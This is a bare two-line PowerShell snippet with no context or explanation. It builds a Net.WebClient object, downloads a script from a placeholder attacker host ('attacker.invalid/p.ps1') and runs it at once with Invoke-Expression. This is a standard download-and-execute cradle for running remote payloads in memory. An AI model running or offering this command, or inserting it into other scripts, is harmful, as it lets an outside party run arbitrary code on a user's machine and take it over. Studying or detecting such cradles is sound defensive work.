$client = New-Object Net.WebClient
Invoke-Expression $client.DownloadString('https://attacker.invalid/p.ps1')
